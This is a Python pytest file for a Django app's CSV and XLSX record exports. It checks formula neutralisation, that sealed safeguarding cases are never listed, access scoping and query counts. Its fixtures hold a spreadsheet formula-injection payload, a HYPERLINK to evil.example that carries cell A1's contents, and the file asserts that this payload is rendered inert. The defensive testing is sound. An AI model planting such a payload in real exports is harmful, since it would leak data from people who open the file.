"""Each dimension's records as CSV and XLSX, from the health page: the same cells in both
formats, formulas made inert, scoped like the pages, sealed feedback never listed, and a fixed
number of queries whatever the number of rows."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from budgets.models import BudgetLine
from capacity.models import CapacityAction
from feedback.models import Case
from feedback.services.cases import case_submit
from partnerships.models import Membership, MutualReport, ReportPeriod
from tests.budgets.helpers import make_budget
from tests.capacity.helpers import score, small_framework, start_round
from tests.factories import (
    MembershipFactory,
    MouFactory,
    PartnershipFactory,
    PartnershipMemberFactory,
)
from visibility.models import Forum
from visibility.services.fora import forum_link, forum_role_save
from visibility.services.results import credit_approve, result_create

pytestmark = pytest.mark.django_db

DIMENSIONS = ["foundation", "capacity", "target_groups", "visibility", "institutional"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SEALED_TEXT = "SEALED-CONTENT-4411 about the driver"
OPEN_TEXT = "OPEN-CONTENT-9032 the tap leaks"


def url(name, world, dimension):
    return reverse(name, args=[world.partnership.pk, dimension])


def csv_sections(text: str) -> list[list[list[str]]]:
    """The CSV's sections: each is [title row, header, rows...], separated by empty lines."""
    sections, current = [], []
    for row in csv.reader(io.StringIO(text)):
        if row:
            current.append(row)
        elif current:
            sections.append(current)
            current = []
    if current:
        sections.append(current)
    return sections


def value_of(cell):
    """A cell as a value: numbers as numbers (the CSV writes 3.0, a spreadsheet reads 3),
    dates as ISO text (a spreadsheet reads them back as midnight), empty as empty text."""
    if cell is None:
        return ""
    if isinstance(cell, datetime.datetime):
        assert cell.time() == datetime.time(0)
        return cell.date().isoformat()
    try:
        return Decimal(str(cell))
    except ArithmeticError:
        return str(cell)


@pytest.fixture
def focal(world):
    """A safeguarding focal point of the local partner: sees sealed cases on the pages."""
    return MembershipFactory(
        organisation=world.local_org,
        role=Membership.Role.STAFF,
        is_safeguarding_focal_point=True,
    ).user


def add_foundation(world, n: int, *, tag=""):
    """n MoU versions and n reporting periods: the local report overdue, the international
    one submitted ten days late."""
    offset = ReportPeriod.objects.filter(partnership=world.partnership).count()
    for i in range(n):
        MouFactory(partnership=world.partnership, title=f"{FORMULA} {tag}{i}")
        start = datetime.date(2020, 1, 1) + datetime.timedelta(days=40 * (offset + i))
        period = ReportPeriod.objects.create(
            partnership=world.partnership,
            start=start,
            end=start + datetime.timedelta(days=30),
            due_date=start + datetime.timedelta(days=60),
            remind_from=start + datetime.timedelta(days=45),
        )
        MutualReport.objects.create(period=period, organisation=world.local_org)
        MutualReport.objects.create(
            period=period,
            organisation=world.international_org,
            status=MutualReport.Status.SUBMITTED,
            submitted_at=datetime.datetime.combine(
                start + datetime.timedelta(days=70), datetime.time(12), tzinfo=datetime.UTC
            ),
        )


def add_capacity(world, n: int, *, tag=""):
    """n complete rounds (local self 2, 3, 1; a partner view; the international self) and n
    plan actions; and a round still open, whose scores stay hidden."""
    framework = small_framework()
    item = framework.item
    local, international = world.local_org, world.international_org
    for i in range(n):
        round_ = start_round(world, framework, title=f"{tag}Round {i}")
        score(round_, international, local, world.international_admin, {item["a"]: 3})
        score(round_, local, local, world.local_admin, {item["a"]: 2, item["b"]: 3, item["c"]: 1})
        score(
            round_,
            international,
            international,
            world.international_admin,
            {item["a"]: 4, item["b"]: 4, item["c"]: 3, item["d"]: 2},
        )
        CapacityAction.objects.create(
            partnership=world.partnership,
            title=f"{FORMULA} {tag}{i}",
            domain=framework.domain["d1"],
            providing=local,
            receiving=international,
            kind=CapacityAction.Kind.MENTORING,
            days=Decimal("2.5"),
            cost=Decimal("1200.00"),
            due_date=datetime.date(2026, 9, 30),
        )
    open_round = start_round(world, framework, title=f"{tag}Open round")
    score(open_round, local, local, world.local_admin, {item["a"]: 1, item["b"]: 1, item["c"]: 1})


def add_feedback(world, n: int):
    for _i in range(n):
        case_submit(partnership_id=world.partnership.pk, kind=Case.Kind.COMPLAINT, text=OPEN_TEXT)
        case_submit(
            partnership_id=world.partnership.pk,
            kind=Case.Kind.SENSITIVE,
            sensitive_category="sea",
            text=SEALED_TEXT,
        )


def add_visibility(world, n: int, *, tag=""):
    for i in range(n):
        forum = Forum.objects.create(name=f"{FORMULA} {tag}{i}", kind="network", level="local")
        forum_link(partnership=world.partnership, forum=forum, local_aim="Lead it.")
        forum_role_save(
            organisation=world.local_org, forum=forum, role="chair", representative="=1+1"
        )
        forum_role_save(organisation=world.international_org, forum=forum, role="member")
        result = result_create(
            partnership=world.partnership,
            user=world.international_admin,
            title=f"{FORMULA} {tag}{i}",
            text="Three proposals adopted.",
            credited=[world.local_org, world.international_org],
        )
        credit_approve(
            credit=result.credits.get(organisation=world.local_org), user=world.local_admin
        )


def add_budgets(world, n: int):
    for _i in range(n):
        budget = make_budget(world, rule=False)
        BudgetLine.objects.create(
            budget=budget,
            category=BudgetLine.Category.PROGRAMME,
            organisation=world.local_org,
            description=FORMULA,
            amount=Decimal("12.50"),
        )


GROW = {
    "foundation": add_foundation,
    "capacity": add_capacity,
    "target_groups": lambda world, n, tag="": add_feedback(world, n),
    "visibility": add_visibility,
    "institutional": lambda world, n, tag="": add_budgets(world, n),
}


@pytest.fixture
def records(world):
    for grow in GROW.values():
        grow(world, 2)
    return world


@pytest.mark.parametrize("dimension", DIMENSIONS)
def test_xlsx_reads_back_equal_to_the_csv_with_formulas_inert(client, records, focal, dimension):
    client.force_login(focal)
    response = client.get(url("health:records_csv", records, dimension))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    sections = csv_sections(response.content.decode())
    book = load_workbook(
        io.BytesIO(client.get(url("health:records_xlsx", records, dimension)).content)
    )
    assert len(book.worksheets) == len(sections) >= 1
    for sheet, section in zip(book.worksheets, sections, strict=True):
        title, *table = section
        assert sheet.title == title[0][:31]
        cells = [[value_of(c) for c in row] for row in sheet.iter_rows(values_only=True)]
        assert cells == [[value_of(c) for c in row] for row in table]
        assert len(table) >= 2, f"{dimension}: {title[0]} has no rows"
        # Nothing is stored as a formula, and no text cell starts as one.
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not (isinstance(cell.value, str) and cell.value.startswith("="))
    flat = [c for section in sections for row in section for c in row]
    assert not [c for c in flat if c.startswith(("=", "+", "-", "@"))]
    if dimension != "target_groups":
        assert any(c.startswith("'" + FORMULA) for c in flat)


def test_a_control_character_a_spreadsheet_cannot_hold_is_dropped_in_both_formats(client, world):
    budget = make_budget(world, rule=False)
    BudgetLine.objects.filter(pk=budget.line["Local programme"].pk).update(
        description="Rent\x0bdeposit\x1b"
    )
    client.force_login(world.local_admin)
    text = client.get(url("health:records_csv", world, "institutional")).content.decode()
    response = client.get(url("health:records_xlsx", world, "institutional"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [[value_of(c) for c in row] for row in sheet.iter_rows(values_only=True)]
    _title, *table = csv_sections(text)[0]
    assert cells == [[value_of(c) for c in row] for row in table]
    assert "Rentdeposit" in text


def test_each_dimension_holds_its_records(client, records):
    client.force_login(records.local_staff)

    def section(dimension, index):
        text = client.get(url("health:records_csv", records, dimension)).content.decode()
        title, header, *rows = csv_sections(text)[index]
        return [dict(zip(header, row, strict=True)) for row in rows]

    members = section("foundation", 0)
    assert {m["Organisation"] for m in members} >= {"Sauti Local", "Nordic International"}
    reports = section("foundation", 2)
    late = [r for r in reports if r["Organisation"] == "Nordic International"]
    assert {r["Punctuality"] for r in late} == {"Late"}
    assert {r["Days late"] for r in late} == {"10"}
    assert {r["Punctuality"] for r in reports if r["Organisation"] == "Sauti Local"} == {
        "Overdue, not submitted"
    }
    assessments = section("capacity", 0)
    still_open = [a for a in assessments if a["Round"] == "Open round"]
    assert still_open and {a["Mean score (1 to 4)"] for a in still_open} == {""}
    self_local = [
        a
        for a in assessments
        if a["Round"] == "Round 0"
        and a["Kind"] == "Self-assessment"
        and a["Assessed by"] == "Sauti Local"
    ]
    assert [(a["Mean score (1 to 4)"], a["Items scored"]) for a in self_local] == [("2.00", "3")]
    actions = section("capacity", 1)
    assert {(a["Provided by"], a["Strengthens"], a["Cost"], a["Status"]) for a in actions} == {
        ("Sauti Local", "Nordic International", "1200.00", "Planned")
    }
    credits = section("visibility", 1)
    assert {(c["Organisation credited"], c["Consent"]) for c in credits} == {
        ("Sauti Local", "Approved"),
        ("Nordic International", "Waiting for this organisation's admin"),
    }
    fora = section("visibility", 0)
    assert {f["Represented by"] for f in fora} == {"'=1+1", ""}
    lines = section("institutional", 0)
    assert len(lines) == 2 * 8
    assert {line["Amount"] for line in lines if line["Category code"] == "programme"} >= {"12.50"}


def test_sealed_feedback_is_counted_never_listed(client, records, focal):
    sealed = list(Case.objects.filter(kind=Case.Kind.SENSITIVE))
    ordinary = list(Case.objects.exclude(kind=Case.Kind.SENSITIVE))
    client.force_login(focal)  # sees the sealed cases on the pages
    assert client.get(sealed[0].get_absolute_url()).status_code == 200
    text = client.get(url("health:records_csv", records, "target_groups")).content.decode()
    book = load_workbook(
        io.BytesIO(client.get(url("health:records_xlsx", records, "target_groups")).content)
    )
    cells = " ".join(
        str(c)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for c in row
    )
    for body in (text, cells):
        for case in sealed:
            assert case.reference not in body
        for case in ordinary:
            assert case.reference in body
        assert SEALED_TEXT not in body and OPEN_TEXT not in body
        assert "Sexual exploitation" not in body
    cases, counted = csv_sections(text)
    assert counted[-1] == [str(len(sealed))]
    assert {row[1] for row in cases[2:]} == {"Complaint"}


def test_a_sealed_case_about_the_readers_own_organisation_is_not_even_counted(client, world):
    case_submit(
        partnership_id=world.partnership.pk,
        kind=Case.Kind.SENSITIVE,
        sensitive_category="misconduct",
        text=SEALED_TEXT,
        concerns_organisation_id=world.local_org.pk,
    )

    def counted(user):
        client.force_login(user)
        text = client.get(url("health:records_csv", world, "target_groups")).content.decode()
        return csv_sections(text)[1][-1]

    assert counted(world.local_admin) == ["0"]
    assert counted(world.international_admin) == ["1"]


@pytest.mark.parametrize("name", ["health:records_csv", "health:records_xlsx"])
def test_another_organisations_partnership_is_404(client, records, name):
    other = PartnershipFactory()
    PartnershipMemberFactory(partnership=other)
    client.force_login(records.local_admin)
    for dimension in DIMENSIONS:
        assert client.get(reverse(name, args=[other.pk, dimension])).status_code == 404
    client.force_login(records.outsider)
    for dimension in DIMENSIONS:
        assert client.get(url(name, records, dimension)).status_code == 404


def test_an_unknown_dimension_is_404(client, world):
    client.force_login(world.local_admin)
    assert client.get(url("health:records_csv", world, "secrets")).status_code == 404


def test_the_health_page_links_each_dimension_to_its_records(client, world):
    client.force_login(world.local_viewer)
    html = client.get(reverse("health:partnership", args=[world.partnership.pk])).content.decode()
    for dimension in DIMENSIONS:
        section = html.split(f'id="dimension-{dimension}"')[1].split("</section>")[0]
        assert url("health:records_csv", world, dimension) in section
        assert url("health:records_xlsx", world, dimension) in section


def _queries(client, world, dimension) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url("health:records_xlsx", world, dimension))
    assert response.status_code == 200
    return len(captured)


@pytest.mark.parametrize("dimension", DIMENSIONS)
def test_query_count_does_not_grow_with_the_rows(client, records, focal, dimension):
    client.force_login(focal)
    _queries(client, records, dimension)  # warm the session and the user's language
    before = _queries(client, records, dimension)
    GROW[dimension](records, 4, tag="more ")
    assert _queries(client, records, dimension) == before
